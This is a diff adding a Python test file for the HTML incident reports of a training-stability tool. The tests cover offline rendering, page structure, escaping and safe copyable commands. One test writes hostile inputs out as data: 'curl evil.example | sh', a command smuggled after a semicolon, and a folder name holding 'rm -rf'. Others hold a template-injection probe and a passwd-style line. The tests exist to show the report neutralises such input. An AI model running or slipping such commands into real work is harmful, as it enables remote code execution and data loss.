@@ -1,0 +1,314 @@
+"""The page as a file: self-contained, escaped, whole whatever an incident holds. Drawing is tested in tests/browser."""
+
+from __future__ import annotations
+
+import json
+import re
+import stat
+import warnings
+from html.parser import HTMLParser
+from itertools import pairwise
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from report.written_runs import (
+    HOSTILE,
+    full_run,
+    hostile_run,
+    incident,
+    step_line,
+    write_incident,
+    write_lines,
+)
+from stayfinite.findings import Incident
+from stayfinite.report.html.histogram import bars
+from stayfinite.report.html.incident_page import write_incident_page
+from stayfinite.report.html.incident_view import IncidentView
+from stayfinite.report.html.notebook import guard_html, incident_html
+from stayfinite.report.html.page import render_comparison, render_run
+from stayfinite.report.html.run_view import RunView
+from stayfinite.report.html.source import excerpt
+from stayfinite.report.record.folder import IncidentFile, RunContents, open_folder
+
+VOID = {"meta", "link", "br", "img", "input", "hr", "rect", "path", "line"}
+
+
+class Elements(HTMLParser):
+    """Checks the nesting, and collects text, element names and attributes."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.stack: list[str] = []
+        self.names: list[str] = []
+        self.attributes: list[tuple[str, str, str | None]] = []
+        self.words: list[str] = []
+        self.feed(page)
+        self.close()
+        assert self.stack == [], f"not closed: {self.stack}"
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.names.append(tag)
+        self.attributes += [(tag, name, value) for name, value in attrs]
+        if tag not in VOID:
+            self.stack.append(tag)
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.names.append(tag)
+        self.attributes += [(tag, name, value) for name, value in attrs]
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag not in VOID:
+            assert self.stack and self.stack[-1] == tag, f"</{tag}> closes {self.stack[-3:]}"
+            self.stack.pop()
+
+    def handle_data(self, data: str) -> None:
+        if not self.stack or self.stack[-1] not in ("script", "style"):
+            self.words.append(data)
+
+    @property
+    def text(self) -> str:
+        return " ".join(" ".join(self.words).split())
+
+
+def data_of(page: str) -> dict[str, Any]:
+    found = re.search(r'<script type="application/json" id="data">(.*?)</script>', page, re.DOTALL)
+    assert found is not None
+    loaded: dict[str, Any] = json.loads(found[1])
+    return loaded
+
+
+@pytest.fixture(scope="module")
+def full(tmp_path_factory: pytest.TempPathFactory) -> str:
+    return render_run(open_folder(full_run(tmp_path_factory.mktemp("runs") / "full")))
+
+
+def test_it_needs_no_network(full: str) -> None:
+    page = Elements(full)
+    loads = [
+        (tag, name, value)
+        for tag, name, value in page.attributes
+        if name in ("src", "href", "srcset", "action")
+    ]
+    assert {value for tag, name, value in loads if not (value or "").startswith("#")} == {"data:,"}
+    assert "@import" not in full and "url(" not in full
+    policy = next(
+        value for _, name, value in page.attributes if name == "content" and "default-src" in (value or "")
+    )
+    assert policy is not None and policy.startswith("default-src 'none'") and "http" not in policy
+
+
+def test_the_first_words_are_what_where_why_and_what_to_do(full: str) -> None:
+    text = Elements(full).text
+    order = [
+        "Step 400: the loss is not finite", "It began on line 12 of", "return torch.exp(z).mean()",
+        "What to do Use torch.logsumexp", "Proved on the replay", "The path to the loss", "The whole run",
+    ]  # fmt: skip
+    places = [text.index(words) for words in order]
+    assert places == sorted(places)
+
+
+def test_every_part_is_there(full: str) -> None:
+    text = Elements(full).text
+    for words in (
+        "Remedies tried on the replay", "What went into the operation", "The path to the loss",
+        "Growth, from the input",
+        "Forecast", "Found in the set-up", "Modules over time", "Timeline", "Environment", "A test that shows it",
+        "The same failure was seen 3 times", "Went back to the copy of step 780", "between step 1235 and 1295",
+        "The file is not on this machine",
+    ):  # fmt: skip
+        assert words in text, words
+    charts = {chart["id"] for chart in data_of(full)["charts"]}
+    assert {
+        "run:loss",
+        "run:components",
+        "run:grad_norm",
+        "run:lr",
+        "run:scale",
+        "run:update_ratio",
+    } <= charts
+    assert {"run:largest output", "run:observed logits", "i0001:loss", "i0001:growth", "i0002:loss"} <= charts
+
+
+def test_headings_do_not_skip_a_level_and_tables_have_headers(full: str) -> None:
+    page = Elements(full)
+    levels = [int(name[1]) for name in page.names if re.fullmatch("h[1-4]", name)]
+    assert levels[0] == 1 and levels.count(1) == 1
+    assert all(after - before <= 1 for before, after in pairwise(levels))
+    assert page.names.count("table") == page.names.count("thead")
+    assert page.names.count("th") == sum(tag == "th" and name == "scope" for tag, name, _ in page.attributes)
+    ids = [value for _, name, value in page.attributes if name == "id"]
+    assert len(ids) == len(set(ids))
+    named = {value for _, name, value in page.attributes if name == "aria-labelledby"}
+    assert named <= set(ids)
+    assert {"main", "header", "footer", "nav"} <= set(page.names)
+
+
+def test_hostile_text_stays_text(tmp_path: Path) -> None:
+    run = hostile_run(tmp_path / "hostile")
+    for page in (render_run(open_folder(run)), render_comparison([open_folder(run), open_folder(run)])):
+        elements = Elements(page)
+        assert "img" not in elements.names
+        assert elements.names.count("script") == 2
+        assert not [name for _, name, _ in elements.attributes if name.startswith("on")]
+        assert "1337" not in page  # {{7*191}} was not computed
+        assert HOSTILE.replace("`", "")[:20] in elements.text
+        assert "<" not in page.split('id="data">')[1].split("</script>")[0]
+        assert data_of(page)["charts"]
+
+
+def test_a_line_of_a_file_is_shown_only_if_it_is_the_recorded_one(tmp_path: Path) -> None:
+    secret = tmp_path / "secret"
+    secret.write_text("a\nroot:x:0:0\nb\n")
+    shown = excerpt(str(secret), 2, "loss = p.log()")
+    assert shown is not None and [line.text for line in shown.lines] == ["loss = p.log()"]
+    assert "changed since" in str(shown.note)
+    for file in ("/dev/zero", str(tmp_path), "\0", "x" * 5000):
+        alone = excerpt(file, 2, "loss = p.log()")
+        assert alone is not None and "not on this machine" in str(alone.note)
+    whole = excerpt(str(secret), 2, "  root:x:0:0 ")
+    assert whole is not None and [line.text for line in whole.lines] == ["a", "root:x:0:0", "b"]
+    assert [line.marked for line in whole.lines] == [False, True, False]
+
+
+json_values = st.recursive(
+    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=8)),
+    lambda inner: st.one_of(
+        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=4), inner, max_size=3)
+    ),
+    max_leaves=6,
+)
+PLACES = [
+    ("birth",), ("path",), ("history",), ("findings",), ("tried",), ("growth",), ("test",), ("blame",),
+    ("environment",), ("observed",), ("birth", "inputs"), ("birth", "samples"), ("birth", "line"),
+    ("birth", "first_index"),
+    ("birth", "file"),
+    ("birth", "inputs", 0, "histogram"), ("birth", "inputs", 0, "shape"), ("birth", "inputs", 0, "zeros"),
+    ("findings", 0), ("findings", 0, "proof"), ("findings", 0, "code"), ("path", 0), ("growth", "by_depth"),
+    ("growth", "by_time"), ("growth", "by_depth", 0, "max"), ("history", 0), ("history", 0, "components"), ("trigger",),
+]  # fmt: skip
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.sampled_from(PLACES), json_values)
+def test_an_incident_may_hold_anything(place: tuple[Any, ...], value: Any) -> None:
+    data = json.loads(json.dumps(incident("a.py", observed=[])))
+    inner = data
+    for key in place[:-1]:
+        inner = inner[key]
+    inner[place[-1]] = value
+    page = render_run(RunContents(Path("x/incidents/0001"), [IncidentFile(Path("x/incidents/0001"), data)]))
+    Elements(page)
+    data_of(page)
+
+
+def test_the_page_of_an_incident_is_written_beside_it_and_never_raises(tmp_path: Path) -> None:
+    folder = write_incident(tmp_path, "0001", incident("a.py"))
+    assert write_incident_page(folder) == folder / "report.html"
+    assert Elements((folder / "report.html").read_text(encoding="utf-8")).text
+    assert [path.name for path in folder.iterdir() if path.name.startswith(".")] == []
+    assert stat.S_IMODE((folder / "report.html").stat().st_mode) & 0o400
+    assert write_incident_page(tmp_path / "nowhere") is None
+    (folder / "incident.json").write_text("{")
+    assert write_incident_page(folder) is None
+
+
+def test_a_page_that_cannot_be_written_is_a_warning(tmp_path: Path) -> None:
+    folder = write_incident(tmp_path, "0001", incident("a.py"))
+    (folder / "report.html").mkdir()
+    with pytest.warns(RuntimeWarning, match="could not write"):
+        assert write_incident_page(folder) is None
+
+
+def test_text_that_utf_8_cannot_hold_does_no_harm(tmp_path: Path) -> None:
+    folder = write_incident(tmp_path, "0001", incident("bad\udcffname.py"))
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        assert write_incident_page(folder) is not None
+
+
+def test_a_healthy_run_says_so(tmp_path: Path) -> None:
+    write_lines(tmp_path, [step_line(i) for i in range(30)])
+    view = RunView(open_folder(tmp_path))
+    assert view.headline == "Every recorded step was finite and was applied"
+    assert "incident" not in Elements(render_run(open_folder(tmp_path))).text.lower()
+
+
+def test_a_failure_whose_place_is_unknown_says_so(tmp_path: Path) -> None:
+    folder = write_incident(
+        tmp_path, "0001", incident("a.py", birth=None, findings=[], path=[], reproduced=False)
+    )
+    text = Elements(render_run(open_folder(folder))).text
+    assert "Where the bad value was born is not known: a second run of the step did not fail." in text
+    assert "No rule explains this failure" in text
+
+
+def test_no_command_to_copy_holds_text_of_the_incident(tmp_path: Path) -> None:
+    data = incident("a.py", environment={"command": "curl evil.example | sh"})
+    data["findings"][0]["code"] = "NUM003; curl evil.example"
+    folder = write_incident(tmp_path / "a run; rm -rf x", "0001", data)
+    view = IncidentView(IncidentFile(folder, data))
+    assert [command for command, _ in view.commands] == ["stayfinite run --trace always SCRIPT.py"]
+    (folder / "capsule").mkdir()
+    assert [command for command, _ in view.commands] == [f"stayfinite replay '{folder}'"]
+
+
+def test_the_path_keeps_its_birth_and_joins_ops_of_one_line() -> None:
+    path = [{"op": f"aten.op{i}.default", "file": "a.py", "line": 5, "module": None} for i in range(9)]
+    view = IncidentView(IncidentFile(Path("0001"), {"step": 1, "path": path}))
+    assert [node.label for node in view.path] == ["op0", "op1 → op2 → op3 → ... → op6 → op7 → op8"]
+
+
+def test_the_bars_of_a_histogram_show_every_value() -> None:
+    made = bars({"low": -2, "high": 1, "negative": [0, 1, 0], "positive": [5, 100000, 0]}, zeros=1)
+    assert [bar.kind for bar in made] == ["negative"] * 3 + ["zero"] + ["positive"] * 3
+    assert [bar.height > 0 for bar in made] == [False, True, False, True, True, True, False]
+    assert made[5].height == 1.0
+    assert made[5].text == "100,000 values from 0.1 to 1"
+
+
+def test_runs_side_by_side(tmp_path: Path) -> None:
+    one, two = full_run(tmp_path / "one" / "run"), tmp_path / "two" / "run"
+    write_lines(two, [step_line(i) for i in range(500)])
+    page = render_comparison([open_folder(one), open_folder(two)])
+    text = Elements(page).text
+    assert "one/run and two/run compared" in text
+    assert "The first refused step is step 400 of one/run. No step of two/run was refused." in text
+    loss = next(chart for chart in data_of(page)["charts"] if chart["id"] == "run:loss")
+    assert set(loss["series"]) == {"one/run", "two/run"}
+
+
+def test_a_hundred_thousand_steps_with_everything_stay_under_five_megabytes(tmp_path: Path) -> None:
+    from stayfinite.report.record.run import RunRecord
+
+    record = RunRecord()
+    for start in range(0, 100_000, 2000):
+        record.feed([step_line(step) for step in range(start, start + 2000)])
+    for step in range(0, 100_000, 100):
+        modules = {f"a.rather.long.name.of.a.module.{i}": [1.2345678, 0.34567, 1.0203] for i in range(150)}
+        record.feed([{"event": "vitals", "step": step, "modules": modules}])
+    page = render_run(RunContents(tmp_path, [], record))
+    assert len(page.encode()) < 5e6
+
+
+def test_a_notebook_shows_an_incident_without_a_script() -> None:
+    data = json.loads(json.dumps(incident("a.py")))
+    data["findings"][0]["message"] = HOSTILE
+    data["observed"] = []
+    shown = Incident.from_json(data)._repr_html_()
+    elements = Elements(shown)
+    assert "script" not in elements.names and "img" not in elements.names
+    assert "Step 400: the loss is not finite" in elements.text
+    assert HOSTILE[:30] in elements.text
+
+
+def test_a_notebook_shows_a_guard() -> None:
+    history = [step_line(i) for i in range(20)]
+    shown = guard_html({"applied": 19, "rolled_back": 0}, history, "runs/a/run.jsonl", incident("a.py"))
+    text = Elements(shown).text
+    assert "applied 19, rolled back 0" in text and "The last failure" in text
+    assert "The last failure" not in guard_html({"applied": 1}, [], "runs/a", None)
+    assert incident_html({}) != ""
